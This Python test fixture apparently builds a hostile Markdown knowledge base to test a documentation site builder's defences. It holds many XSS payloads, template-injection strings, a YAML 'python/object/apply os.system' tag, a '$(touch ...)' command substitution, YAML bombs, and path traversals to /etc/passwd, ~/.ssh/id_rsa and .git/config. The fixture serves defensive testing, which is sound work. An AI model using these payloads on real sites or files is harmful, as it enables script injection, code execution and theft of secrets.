"""What a hostile author may write into a base: one table of attacks over all channels.

In each text `@RUN@` stands for the call that tells that a script ran, `@IMG@` for a picture whose
error handler makes that call, `@SCRIPT@` for a script that does, and `@EVIL@` for the address
of a third party. `@SHA:path@` is the digest of another file of the same attack.
"""

import hashlib
import re
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field

CANARY = "canary-7f3a91"
"""Stands in files that no page may show."""


@dataclass(frozen=True, slots=True)
class Attack:
    """Files of a base and symbolic links in it; `number` is what its scripts call with."""

    number: int
    channel: str
    name: str
    files: Mapping[str, str]
    links: Mapping[str, str] = field(default_factory=dict)

    @property
    def title(self) -> str:
        """What a test calls it."""
        return f"{self.number} {self.channel}: {self.name}"


def _front(*lines: str) -> str:
    return "\n".join(["---", *lines, "---", "# Heading of a snare", "", "Text of a snare.", ""])


PAGES: Mapping[str, Mapping[str, str]] = {
    "title": {
        "a picture": _front('title: "@IMG@"'),
        "out of the title": _front('title: "</title>@SCRIPT@<title>"'),
        "out of an attribute": _front("title: '\" onmouseover=@RUN@ onfocus=@RUN@ autofocus x=\"'"),
        "escaped once": _front('title: "&lt;img src=x onerror=@RUN@&gt;"'),
        "a template": _front("title: \"{{ config.plugins }}{% include '/etc/passwd' %}\""),
        "a comment": _front('title: "<!--> @IMG@ -->"'),
        "very long": _front(f'title: "{"long " * 4000}@IMG@"'),
        "bidi and control characters": _front('title: "\\u202e\\u2066@IMG@\\u0007\\u001b[31m\\u2028"'),
        "a list": _front('title: ["@IMG@", {a: "@IMG@"}]'),
        "in the heading": "# @IMG@ @SCRIPT@ snare\n",
        "in the heading's code": "# `@SCRIPT@` and {{ 7*7 }} {#x onclick=@RUN@}\n\nsnare\n",
        "in the heading's link": "# [snare](javascript:@RUN@) ![x](@EVIL@/heading.png)\n",
        "endless": f"# {'[' * 3000}{'<' * 3000}snare @IMG@\n",
    },
    "front matter": {
        "description": _front("description: '\"><img src=x onerror=@RUN@>'"),
        "summary": _front("summary: '\"><script>@RUN@</script>@IMG@'"),
        "summary of a template": _front('summary: "{{ 7*7 }}{% raw %}@IMG@"'),
        "tags": _front('tags: ["@IMG@", "\\"><script>@RUN@</script>", "\' onclick=@RUN@"]'),
        "tags with keys": _front("tags: {'@IMG@': '@IMG@'}"),
        "status": _front('status: "\\"><img src=x onerror=@RUN@>"'),
        "date and author": _front('date: "@IMG@"', 'author: "\\"><script>@RUN@</script>"'),
        "icon": _front("icon: ../../../../etc/passwd"),
        "icon with markup": _front('icon: "@IMG@"'),
        "template": _front("template: ../../../../etc/passwd"),
        "another template": _front("template: redirect.html", "location: '\"];@RUN@;[\"'"),
        "hide": _front("hide: [navigation, toc, path, feedback, '@IMG@']"),
        "macros": _front("render_macros: true") + "{{ ''.__class__.__mro__ }} {% include 'mkdocs.yml' %}\n",
        "canonical address": _front("canonical_url: 'javascript:@RUN@'", "edit_url: 'javascript:@RUN@'"),
        "search": _front("search: {exclude: true, boost: 1000000}", "title: '@IMG@ snare'"),
        "a bomb": _front(
            'a: &a ["@IMG@", "@IMG@"]',
            *(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)),
            "title: *i",
            "tags: *i",
        ),
        "itself": _front("title: &t [*t]", "tags: &u {a: *u}"),
        "a Python object": _front(
            "title: !!python/object/apply:os.system ['touch /tmp/proofshelf-pwned']",
            "summary: !!python/name:os.system",
        ),
        "no end": "---\ntitle: '@IMG@'\n\n# A snare without end\n\n@IMG@\n",
        "merged keys": _front("<<: [{title: '@IMG@'}, {tags: ['@IMG@']}]"),
        "deeply nested": "---\ntitle: " + "[" * 2000 + "\n---\n# A deep snare\n\n@IMG@\n",
    },
    "raw HTML": {
        "script": "@SCRIPT@\n\nin a line @SCRIPT@ snare\n",
        "script of a third party": "<script src='@EVIL@/a.js'></script>\n",
        "script of the site": '<script src="../../attached/code.txt"></script>\n\n[code](../attached/code.txt)\n',
        "a handler": "@IMG@\n\n<IMG SRC=x OnErRoR=@RUN@ //\n",
        "unclosed": "<img src=x onerror=@RUN@ snare\n\n<img src=x onerror=@RUN@",
        "nested script": "<scr<script>ipt>@RUN@</scr</script>ipt>\n",
        "comment tricks": "<!--><img src=x onerror=@RUN@>-->\n\n<!--- --!><img src=x onerror=@RUN@> -->\n",
        "CDATA": "<![CDATA[><img src=x onerror=@RUN@>]]>\n",
        "instruction": "<?x ><img src=x onerror=@RUN@> ?>\n\n<!X ><img src=x onerror=@RUN@>\n",
        "frames": "<iframe srcdoc=\"@SCRIPT@\"></iframe><iframe src='javascript:@RUN@'></iframe>"
        "<iframe src=@EVIL@></iframe>\n",
        "objects": "<object data='@EVIL@/a.swf'></object><embed src='javascript:@RUN@'>\n",
        "form": "<form action=@EVIL@><button formaction=javascript:@RUN@ autofocus onfocus=@RUN@>x</form>\n",
        "autofocus": "<input autofocus onfocus=@RUN@><textarea autofocus onfocus=@RUN@></textarea>\n",
        "toggle": "<details open ontoggle=@RUN@><summary>x</summary>snare</details>\n",
        "media": "<video poster=@EVIL@/a.png><source onerror=@RUN@></video><audio src=@EVIL@ onerror=@RUN@>\n",
        "body": "<body onload=@RUN@ onpageshow=@RUN@ background=@EVIL@/a.png>\n",
        "style": "<style>@import '@EVIL@/a.css'; body{background:url(@EVIL@/b.png)}</style>\n\n"
        "<div style='background:url(@EVIL@/c.png)'>snare</div>\n",
        "animation": "<style>@keyframes x{}</style><b style='animation:x' onanimationstart=@RUN@>snare</b>\n",
        "links of the head": "<link rel=stylesheet href=@EVIL@/a.css><link rel=preload as=script href=@EVIL@>\n",
        "refresh": "<meta http-equiv=refresh content='0;url=@EVIL@'>\n",
        "base": "<base href=@EVIL@/>\n\n[snare](#x)\n",
        "mutation by math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
        '<img src=x onerror=@RUN@>">\n',
        "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=@RUN@>">\n',
        "template element": "<template><script>@RUN@</script></template><template shadowrootmode=open>@IMG@</template>\n",
        "raw text": '<textarea><img title="</textarea><img src=x onerror=@RUN@>">\n\n<xmp>@IMG@</xmp>\n',
        "plaintext": "<plaintext>\n\nsnare @IMG@\n",
        "end of the article": "</article></main></body></html>\n\n@SCRIPT@\n",
        "the theme's ids": '<div id="__config">{"base":"@EVIL@"}</div><a id=__md_scope></a><form name=search>\n',
        "an id with quotes": '<a id=\'x" onfocus=@RUN@ autofocus tabindex=1 x="\'>snare</a>\n\n<a name="&quot;>@IMG@">\n',
        "kept tags with handlers": "<kbd onclick=@RUN@>a</kbd><sub/onmouseover=@RUN@>b</sub><br\tonload=@RUN@>\n",
        "popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=@RUN@>snare</div>\n",
        "image map": "<map name=m><area href=javascript:@RUN@ shape=default></map><img usemap=#m src=x>\n",
        "import map": '<script type=importmap>{"imports":{"a":"@EVIL@/a.js"}}</script>'
        "<script type=module>import '@EVIL@/b.js'</script>\n",
    },
    "inline SVG": {
        "load": "<svg onload=@RUN@></svg>\n\n<svg/onload=@RUN@//\n",
        "script": "<svg><script>@RUN@</script><script href=data:,@RUN@ /></svg>\n",
        "link": "<svg><a xlink:href='javascript:@RUN@'><text y=20>snare</text></a></svg>\n",
        "animation": "<svg><animate onbegin=@RUN@ attributeName=x dur=1s><set attributeName=href to=javascript:@RUN@>\n",
        "embedded page": "<svg><foreignObject><iframe srcdoc='@SCRIPT@'></iframe></foreignObject></svg>\n",
        "use": "<svg><use href='data:image/svg+xml,<svg id=x onload=@RUN@ />#x'/></svg>\n",
        "mutation": '<svg></p><style><a id="</style><img src=x onerror=@RUN@>">\n',
    },
    "links": {
        "javascript": "[snare](javascript:@RUN@) [b](JaVaScRiPt:@RUN@) <javascript:@RUN@>\n",
        "entities": "[snare](javascript&colon;@RUN@) [b](java&#x09;script:@RUN@) [c](&#x01;javascript:@RUN@)\n",
        "spaces": "[snare](<java\tscript:@RUN@>) [b](< javascript:@RUN@>) [c](<\u00a0javascript:@RUN@>)\n",
        "percent signs": "[snare](javascript%3A@RUN@) [b](%6aavascript:@RUN@)\n",
        "data": "[snare](data:text/html,@SCRIPT@) [b](data:text/html;base64,PHNjcmlwdD4=)\n",
        "other schemes": "[snare](vbscript:@RUN@) [b](blob:@RUN@) [c](view-source:x) [d](file:///etc/passwd)\n",
        "definition": "[snare][x] [x]\n\n[x]: javascript:@RUN@ '\" onclick=@RUN@ \"'\n",
        "title": '[snare](#x \'" onmouseover=@RUN@ x="\') [b](#y "\' autofocus onfocus=@RUN@")\n',
        "text": "[@IMG@ snare](https://site.example '@IMG@') <https://x.example/\"onmouseover=@RUN@>\n",
        "no scheme": "[snare](//evil.example/a) [b](\\\\\\\\evil.example\\\\a) [c](/\\\\evil.example)\n",
        "bare": 'https://x.example/"><img/src=x/onerror=@RUN@> www.x.example/<svg/onload=@RUN@>\n',
        "attributes": "[snare](#x){onclick=@RUN@} ![x](../attached/ok.png){onload=@RUN@}\n\nText\n{: onclick=@RUN@ }\n",
        "wiki links": "[[javascript:@RUN@|snare]] [[@IMG@]] ![[@EVIL@/x.png]]\n",
        "to an anchor": '[snare](#"onmouseover=@RUN@) [b](#<img src=x onerror=@RUN@>)\n',
        "broken": "[snare](http://[::1) [b](http://a:b:c/) [c](<gone<img src=x onerror=@RUN@>.md>)\n",
    },
    "images": {
        "of a third party": "![snare](@EVIL@/p.png) ![b](//evil.example/q.png) ![c][x]\n\n[x]: @EVIL@/r.png\n",
        "in a link": "[![snare](@EVIL@/p.png)](javascript:@RUN@) [![x](x.png)](@EVIL@)\n",
        "alternative text": '![@IMG@ "onerror=@RUN@](../attached/ok.png "\\" onload=@RUN@ \\"")\n',
        "schemes": "![snare](javascript:@RUN@) ![b](data:image/svg+xml,<svg onload=@RUN@>) ![c](data:text/html,x)\n",
        "raw": "<img srcset='@EVIL@/a.png 2x' src=@EVIL@/b.png loading=eager>\n<picture><source srcset=@EVIL@/c.png>\n",
        "address with quotes": '![snare](<x" onerror=@RUN@ y=".png>)\n',
    },
    "code": {
        "info of a fence": '```<img/src=x/onerror=@RUN@>\nsnare\n```\n\n```"onload=@RUN@\nsnare\n```\n',
        "attributes of a fence": '```{.python onclick=@RUN@ title="@IMG@"}\nsnare\n```\n',
        "title of a fence": "```python title=\"@IMG@\" hl_lines='<svg onload=@RUN@>'\nsnare\n```\n",
        "html": "```html\n@SCRIPT@@IMG@</code></pre>@IMG@\n```\n",
        "strange language": "```../../../etc/passwd\nsnare\n```\n\n```__import__('os')\n@IMG@\n```\n",
        "inline": "`@IMG@` `` ` @SCRIPT@ `` `#!html @IMG@`\n",
        "indented": "    @SCRIPT@\n    {{ 7*7 }}\n",
    },
    "diagrams": {
        "label": '```mermaid\nflowchart LR\n  a["@IMG@"] --> b["<script>@RUN@</script>"]\n```\n',
        "click": '```mermaid\nflowchart LR\n  a --> b\n  click a "javascript:@RUN@"\n  click b call @RUN@\n```\n',
        "link to a third party": '```mermaid\nflowchart LR\n  a --> b\n  click a href "@EVIL@" _blank\n```\n',
        "settings": "```mermaid\n%%{init: {'securityLevel':'loose','themeCSS':'@import url(@EVIL@/a.css)'}}%%\n"
        "flowchart LR\n  a[<img src=@EVIL@/x.png>] --> b\n```\n",
        "first word": '```mermaid\n"onload=@RUN@ <img src=x onerror=@RUN@>\n```\n\n```MERMAID\n@IMG@\n```\n',
        "sequence": "```mermaid\nsequenceDiagram\n  a->>b: @IMG@\n  Note over a: <svg onload=@RUN@>\n```\n",
        "style": '```mermaid\nflowchart LR\n  a --> b\n  style a fill:url(@EVIL@/x.svg#y),stroke:"><script>@RUN@\n```\n',
    },
    "formulas": {
        "link": "$\\href{javascript:@RUN@}{x}$ $\\url{@EVIL@}$\n",
        "text": "$\\text{@IMG@}$ $$\\text{</mtext><script>@RUN@</script>}$$\n",
        "out of it": "$</math>@SCRIPT@$ $a</span>@IMG@$\n\n```math\n</div>@SCRIPT@\n```\n",
        "html": '$\\htmlClass{x}{y}$ $\\class{"onclick=@RUN@}{z}$ $\\style{background:url(@EVIL@)}{z}$\n',
        "annotation": "$<annotation-xml encoding='text/html'>@IMG@</annotation-xml>$ $\\unicode{<svg onload=@RUN@>}$\n",
        "nested": "$" + "\\frac{" * 400 + "x" + "}{y}" * 400 + "$\n",
        "colour": '$\\color{"><img src=x onerror=@RUN@>}{x}$ $\\includegraphics{@EVIL@/x.png}$\n',
    },
    "blocks": {
        "table": '| @IMG@ | b |\n|:--|--:|\n| @SCRIPT@ | "><svg onload=@RUN@> |\n',
        "alignment of a table": '| a |\n|:-" style=x onclick=@RUN@:|\n| @IMG@ |\n',
        "footnote": 'Snare[^1] and [^"><img/src=x/onerror=@RUN@>].\n\n[^1]: @IMG@\n\n'
        '[^"><img/src=x/onerror=@RUN@>]: [x](javascript:@RUN@)\n',
        "alert": "> [!NOTE] @IMG@\n> @SCRIPT@\n\n> [!<img src=x onerror=@RUN@>]\n> snare\n",
        "task list": '- [x] @IMG@\n- ["onclick=@RUN@] snare\n',
        "admonition": '!!! note "@IMG@"\n    @SCRIPT@\n\n??? "x" onclick=@RUN@"\n    @IMG@\n\n=== "@IMG@"\n',
        "headings of an attribute list": "## Two {#two onclick=@RUN@ style=x}\n\n## @IMG@ {: .x onclick=@RUN@ }\n",
        "headings with the theme's ids": "## __search\n\n## __drawer\n\n## __palette\n\n## __toc\n\n## @IMG@\n",
        "definitions": "*[HTML]: @IMG@\n\nHTML\n:   @SCRIPT@\n\n[TOC]\n\n::: hooks.plugin\n",
        "emoji and keys": ":@IMG@: ++@IMG@++ ==@IMG@== ^^@IMG@^^ {--@IMG@--}\n",
        "controls": "a\x00b \x08\x1b[2J \u202e\u2066@IMG@\u2069 \ufeff\u200b<\u200bscript>@RUN@</script>\n",
        "deep": "> " * 300 + "@IMG@\n\n" + "".join("  " * i + "- @IMG@\n" for i in range(60)),
        "odd characters": "\ufffe\uffff\U000e0041 \ud7ff \u2028@SCRIPT@\u2029 \x0b\x0c\x85\n",
    },
    "templates and snippets": {
        "macros": "{{ config }} {{ ''.__class__ }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}\n",
        "unfinished": "{{ {% {# snare\n",
        "snippet": '--8<-- "../outside.md"\n\n--8<-- "../../outside.md"\n\n--8<-- ".git/config"\n',
        "snippet in code": '```\n--8<-- "../base/.git/config"\n--8<-- "/etc/passwd"\n```\n\n;--8<-- "mkdocs.yml"\n',
        "block of snippets": "--8<--\n.git/config\n@EVIL@/x.md\n--8<--\n\n{! .git/config !}\n\n<!--#include file='.git/config'-->\n",
        "include of macros": "{% include-markdown '../../outside.md' %} {% include '../../outside.md' %}\n",
        "allowed for a reason": '<!-- checks: allow-file all: @IMG@ "><script>@RUN@</script> -->\n\n[snare](gone-@IMG@.md)\n',
        "allowed on a line": "[snare](gone.md) <!-- checks: allow broken-link: </p>@IMG@{{ 7*7 }} -->\n",
        "an order to the checks": "<!-- checks: allow <img src=x onerror=@RUN@>: @IMG@ -->\n\nsnare\n",
    },
    "ways out": {
        "above the base": "[snare](../../outside.txt) ![x](../../outside.png) [y](../../../../../../etc/passwd)\n",
        "escaped": "[snare](%2e%2e/%2e%2e/outside.txt) [b](..%2f..%2foutside.txt) [c](..\\..\\outside.txt)\n",
        "absolute": "[snare](/etc/passwd) [b](/outside.txt) [c](file:///etc/passwd) [d](~/.ssh/id_rsa)\n",
        "hidden": "[snare](../.git/config) [b](../.secret/.outside.txt) [c](../.secret/) ![d](../.secret/.outside.png)\n",
        "NUL": "[snare](../attached/ok.png%00.txt) [b](../attached/ok.png%00)\n",
        "a name too long": f"[snare]({'a' * 5000}.md) [b]({'b/' * 2000}c.md)\n",
        "configuration": "[snare](../mkdocs.yml) [b](../../site/mkdocs.yml)\n",
    },
}
"""Attacks of one page each, by channel and name."""

_PLAN = """\
# {title}
**Date**: {date}
**Goal**: {goal}

# BATCH 1: {batch} (1 PARTs, ~40 lines)

## PART 1: {part} (20 lines)

- [x] PART 1: Create {target} (Completed {done})

**Step 2: Write**
- [x] Section 1: {section}
- [ ] **CITE**: {cite}
"""


def _plan(**fields: str) -> str:
    known = {
        "title": "Snare plan",
        "date": "2025-03-01",
        "goal": "Snares",
        "batch": "Snares",
        "part": "Create plain/00-page.md",
        "target": "plain/00-page.md",
        "done": "2025-03-02 10:00",
        "section": "Text of a snare",
        "cite": "plain/00",
    }
    return _PLAN.format(**known | fields)


_DROP = """\
# {title}
**PART**: {part}
**Date**: {date}
**Runner**: {runner}
**Status**: {status}
**File**: {file}
**Lines**: {lines}
"""


def _drop(**fields: str) -> str:
    known = {
        "title": "KNOWLEDGE DROP: snare",
        "part": "1",
        "date": "2025-03-02 10:05",
        "runner": "runner",
        "status": "complete",
        "file": "plain/00-page.md",
        "lines": "900",
    }
    return _DROP.format(**known | fields)


_REPORT = "KNOWLEDGE-DROP-snare-2025-03-02-1005.md"

PLANS: Mapping[str, str] = {
    "title": _plan(title="@IMG@ </title>@SCRIPT@ plan"),
    "date and goal": _plan(date="@IMG@", goal="@SCRIPT@"),
    "batch": _plan(batch='@IMG@"><script>@RUN@</script>'),
    "part": _plan(part="@IMG@ {{ 7*7 }} [x](javascript:@RUN@)"),
    "target with markup": _plan(part="Snare", target="plain/@IMG@.md"),
    "target out of the base": _plan(part="Snare", target="../outside.md"),
    "absolute target": _plan(part="Snare", target="/etc/passwd.md"),
    "target that is hidden": _plan(part="Snare", target=".git/outside.md"),
    "time": _plan(done="@IMG@"),
    "section": _plan(section='@IMG@ "onclick=@RUN@'),
    "citation": _plan(cite="plain/@IMG@, <svg onload=@RUN@>"),
    "citation out of the base": _plan(cite="../outside.md, ../../outside.md, /etc/passwd"),
    "note behind a box": _plan(section="Snare\n- [x] @SCRIPT@ (Completed @IMG@)"),
}
"""A plan each, by the field that is hostile."""

DROPS: Mapping[str, str] = {
    "title": _drop(title="KNOWLEDGE DROP: @IMG@ </title>@SCRIPT@"),
    "part": _drop(part="1@IMG@"),
    "date": _drop(date="@IMG@ 2025-03-02"),
    "runner": _drop(runner='@IMG@"><script>@RUN@</script>'),
    "status": _drop(status="complete @IMG@"),
    "file with markup": _drop(file="plain/@IMG@.md"),
    "file out of the base": _drop(file="../outside.md"),
    "absolute file": _drop(file="/etc/passwd"),
    "lines": _drop(lines="9@IMG@ 99999999999999999999999999999999"),
    "head": "---\npart: 1\ntarget: ['plain/00-page.md', '@IMG@', '../../outside.md']\nrunner: '@IMG@'\n"
    "status: '@IMG@'\nlines: 9\nsections: ['@IMG@']\ncitations: ['@IMG@', '../outside.md']\n"
    "sources: [{title: '@IMG@', address: 'javascript:@RUN@', accessed: '@IMG@'}]\n---\n\n"
    "# KNOWLEDGE DROP: @IMG@\n\n## Gaps left\n\n@IMG@\n",
}
"""A drop each, beside a plan that asks for what it reports."""

_REVIEW = """\
---
review: 1
plan: plan.md
batch: 1
parts:
- part: 1
  judgement: rejected
  reviewer: '@IMG@"><script>@RUN@</script>'
  reviewed: '2026-03-02T12:00:00+01:00'
  page:
    path: plain/00-page.md
    sha256: @SHA:plain/00-page.md@
  drops:
  - path: '@IMG@'
    sha256: @SHA:plain/00-page.md@
  note: '@IMG@ {{ 7*7 }}'
  accepted:
  - code: '@IMG@'
    because: '@SCRIPT@'
---

# Review @IMG@
"""

_RUN = """\
---
run: 1
plan: plan.md
batch: 1
runner: '@IMG@'
command: '@IMG@ $(touch /tmp/proofshelf-pwned)'
parts:
- part: 1
  outcome: failed
  attempts:
  - attempt: 1
    outcome: failed
    started: '2026-03-02T12:00:00+01:00'
    finished: '2026-03-02T12:10:00+01:00'
    exit_code: 1
    foreign: ['@IMG@', '../outside.md']
    reasons: ['@IMG@', '"><script>@RUN@</script>']
---

# Run @IMG@
"""

_PLAIN = "# Plain page\n\n## Text of a snare\n\nNothing.\n"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '

SVGS: Mapping[str, str] = {
    "script": _SVG + "><script>@RUN@</script></svg>",
    "load": _SVG + 'onload="@RUN@"/>',
    "link": _SVG + '><a xlink:href="javascript:@RUN@"><text y="20">x</text></a></svg>',
    "embedded page": _SVG
    + '><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="@RUN@"/></foreignObject></svg>',
    "picture of a third party": _SVG + '><image href="@EVIL@/a.png" width="9" height="9"/></svg>',
    "style of a third party": _SVG + "><style>@import '@EVIL@/a.css';</style></svg>",
    "entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "../outside.txt">]>' + _SVG + "><text>&x;</text></svg>",
    "set": _SVG + '><a><set attributeName="href" to="javascript:@RUN@"/><text y="20">x</text></a></svg>',
    "another name space": '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>@RUN@</x:script></x:svg>',
    "an HTML script": _SVG + '><h:script xmlns:h="http://www.w3.org/1999/xhtml">@RUN@</h:script></svg>',
    "instruction": '<?xml-stylesheet href="@EVIL@/a.xsl" type="text/xsl"?>' + _SVG + "/>",
    "use": _SVG + '><use href="@EVIL@/a.svg#x"/></svg>',
    "escaped address in a style": _SVG + "><style>svg{background:u\\72l(@EVIL@/a.png)}</style></svg>",
}
"""A picture each, linked to and shown by a page."""

NAMES: Mapping[str, str] = {
    "a picture": "names/@IMG@ snare.md",
    "quotes": "names/\"onmouseover=@RUN@ x='.md",
    "a template": "names/{{ 7*7 }}{% x %} snare.md",
    "percent signs": "names/%3Cimg src=x onerror=@RUN@%3E snare.md",
    "an address": "javascript:@RUN@ snare.md",
    "a folder as an address": "javascript:@RUN@,/x.md",
    "a folder with markup": "@IMG@/<svg onload=@RUN@>/snare.md",
    "bidi and control characters": "names/\u202edm.erans\u2066 \x07\x1b[31m@IMG@.md",
    "a new line": "names/line\n# Heading @IMG@.md",
    "very long": "names/" + "long" * 55 + ".md",
    "marks of addresses": "names/a?b#c&d;e=@RUN@.md",
    "dots": "names/...md",
    "an option": "names/--help @IMG@.md",
    "html": "names/index.html.md",
    "a backslash": "names/..\\..\\outside @IMG@.md",
}
"""A file each, with a harmless text."""

OTHERS: Mapping[str, Mapping[str, str]] = {
    "attached pages": {
        "others/00-attached.md": "# Attached snare\n\n[a](evil.html) [b](evil.xhtml) [c](evil.js) [d](evil.xml) "
        "![e](evil.html) [f](evil.HTM) [g](evil.svgz) [h](evil.mht) [i](evil.shtml) [j](evil.html.)\n",
        **{
            f"others/evil.{suffix}": "<html xmlns='http://www.w3.org/1999/xhtml'>@SCRIPT@</html>"
            for suffix in ("html", "xhtml", "js", "xml", "HTM", "svgz", "mht", "shtml", "html.")
        },
    },
    "a page as a picture": {
        "others/01-polyglot.md": "# Polyglot snare\n\n![a](page.png) [b](page.pdf) [c](page.txt) [d](page.json)\n",
        "others/page.png": "<html>@SCRIPT@</html>",
        "others/page.pdf": "%PDF-1.4 <html>@SCRIPT@</html>",
        "others/page.txt": "<html>@SCRIPT@</html>",
        "others/page.json": '{"x": "<html>@SCRIPT@</html>"}',
    },
    "an attached file's name": {
        "others/02-name.md": '# Named snare\n\n![a](<x" onload=@RUN@ y=".png>) [b](<javascript:@RUN@.txt>) '
        "[c](./javascript:@RUN@.txt)\n",
        'others/x" onload=@RUN@ y=".png': "no picture",
        "others/javascript:@RUN@.txt": "x",
    },
    "INDEX and SKILL": {
        "INDEX.md": "# @IMG@\n\n@SCRIPT@ [snare](javascript:@RUN@)\n",
        "SKILL.md": "---\nname: '@IMG@'\ndescription: '@IMG@'\n---\n\n# @IMG@\n",
        "README.md": "---\ntitle: '@IMG@'\n---\n\n# @IMG@ snare\n",
    },
    "names of the site's own": {
        "404.md": "# 404 snare @IMG@\n",
        "search.md": "# Search snare\n",
        "assets/javascripts/bundle.md": "# Bundle snare\n",
        "index.md": "# Index snare @IMG@\n",
        "dashboard.md": "# Dashboard snare @IMG@\n",
        "sitemap.xml.md": "# Sitemap snare\n",
        "_headers.md": "# Headers\n\n[a](_headers.txt)\n",
        "_headers.txt": "/*\n  Access-Control-Allow-Origin: *\n",
    },
    "a review": {
        "expansions/review/plan.md": _plan(),
        f"expansions/review/{_REPORT}": _drop(),
        "expansions/review/KNOWLEDGE-REVIEW-batch-1.md": _REVIEW,
        "plain/00-page.md": _PLAIN,
    },
    "a run": {
        "expansions/run/plan.md": _plan(),
        "expansions/run/KNOWLEDGE-RUN-batch-1.md": _RUN,
    },
    "configuration in the base": {
        "mkdocs.yml": "plugins: [search]\nhooks: [evil.py]\n",
        "evil.py": "raise SystemExit('ran')\n",
        "conftest.py": "raise SystemExit('ran')\n",
        "others/03-configured.md": "# Configured snare\n\n[a](../mkdocs.yml) [b](../evil.py)\n",
    },
}
"""Attacks of several files."""

LINKS: Mapping[str, Mapping[str, str]] = {
    "a page outside": {"ways/outside.md": "../../outside.md"},
    "a file outside": {"ways/outside.txt": "../../outside.txt"},
    "a folder outside": {"ways/folder": "../../beyond"},
    "the base itself": {"ways/loop": "..", "ways/self.md": "self.md"},
    "git's configuration": {"ways/config.md": "../.git/outside.md", "ways/config.txt": "../.git/config"},
    "the whole machine": {"ways/root": "/", "ways/passwd.txt": "/etc/passwd", "ways/gone.md": "/nowhere"},
}
"""Symbolic links, by path what they lead to."""


_APART = frozenset({"title", "front matter"})
"""Channels whose attacks take a page each; those of the others share one."""

_SWALLOWING = frozenset(
    {
        "CDATA",
        "comment tricks",
        "end of the article",
        "instruction",
        "mutation",
        "mutation by math",
        "mutation by noscript",
        "plaintext",
        "raw text",
        "template element",
        "unclosed",
        "unfinished",
    }
)
"""Attacks that would take the rest of a page with them."""

_Group = tuple[str, str, Mapping[str, str], Mapping[str, str]]
"""Channel, name, files and symbolic links of an attack, before its number is known."""


def _iter_groups() -> Iterator[_Group]:
    for channel, texts in PAGES.items():
        for name, text in texts.items():
            alone = channel in _APART or name in _SWALLOWING
            path = f"{channel.replace(' ', '-')}/{'@N@' if alone else 'all'}.md"
            yield channel, name, {path: text if alone else f"## @N@\n\n{text}\n\n"}, {}
    for name, text in PLANS.items():
        yield "plan", name, {"expansions/plans/ingestion-@N@.md": text}, {}
    for place, (name, text) in enumerate(DROPS.items()):
        path = f"expansions/drops/KNOWLEDGE-DROP-snare-2025-03-02-10{place:02}.md"
        yield "drop", name, {"expansions/drops/plan.md": _plan(), path: text}, {}
    for name, text in SVGS.items():
        page = "![picture](picture-@N@.svg) [picture](picture-@N@.svg)\n\n"
        yield "attached SVG", name, {"drawn/all.md": page, "drawn/picture-@N@.svg": text}, {}
    for name, path in NAMES.items():
        yield "name", name, {path: "# A snare's name\n\nText.\n"}, {}
    for name, files in OTHERS.items():
        yield "files", name, files, {}
    for name, links in LINKS.items():
        page = " ".join(f"[snare]({path.rpartition('/')[2]})" for path in links) + "\n\n"
        yield "symbolic link", name, {"ways/all.md": page}, links


def _fill(text: str, number: int, files: Mapping[str, str]) -> str:
    """A text of the table with its marks replaced."""
    run = f"__pwned({number})"
    marks = {
        "@IMG@": f"<img src=x onerror={run}>",
        "@SCRIPT@": f"<script>{run}</script>",
        "@RUN@": run,
        "@EVIL@": f"https://evil-{number}.example",
        "@N@": str(number),
    }
    for mark, meaning in marks.items():
        text = text.replace(mark, meaning)
    return re.sub(r"@SHA:([^@]+)@", lambda match: hashlib.sha256(files[match[1]].encode()).hexdigest(), text)


def _attack(number: int, group: _Group) -> Attack:
    channel, name, files, links = group
    filled = {_fill(path, number, {}): _fill(text, number, files) for path, text in files.items()}
    return Attack(number, channel, name, filled, links)


ATTACKS: tuple[Attack, ...] = tuple(_attack(*each) for each in enumerate(_iter_groups(), 1))

SHARED: Mapping[str, str] = {
    "plain/00-page.md": _PLAIN,
    "attached/ok.png": "no picture",
    "attached/code.txt": "__pwned(0)",
}
"""Files of the base that attacks refer to."""


def gather_files(attacks: Iterable[Attack] = ATTACKS) -> dict[str, str]:
    """The files of attacks by path; the texts of those that share a page stand one below another."""
    gathered = dict(SHARED)
    for attack in attacks:
        for path, text in attack.files.items():
            shared = path.endswith("/all.md")
            gathered[path] = gathered.get(path, "# A snare\n\n") + text if shared else text
    return gathered
